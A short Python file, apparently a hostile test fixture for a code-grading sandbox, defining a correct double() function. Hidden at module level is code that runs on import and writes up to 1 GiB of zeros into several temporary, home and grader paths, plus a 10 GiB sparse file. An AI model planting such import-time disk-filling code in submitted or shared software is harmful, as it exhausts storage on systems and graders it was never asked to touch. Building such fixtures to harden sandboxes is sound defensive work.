"""A correct double() whose import tries to fill every writable place with a huge file."""
import os

block = b"\0" * (1 << 20)
for path in ("/tmp/huge", "/dev/shm/huge", "huge.bin", "/home/student/huge", "/huge", "/opt/grader-worker/huge",
             "@@REPO@@/huge", "@@MARKER@@"):
    try:
        with open(path, "wb") as f:
            for _ in range(1024):  # up to 1 GiB each
                f.write(block)
    except OSError:
        pass
try:
    with open("/tmp/sparse", "wb") as f:
        f.truncate(10 << 30)  # 10 GiB sparse
except OSError:
    pass


def double(x: int) -> int:
    return 2 * x
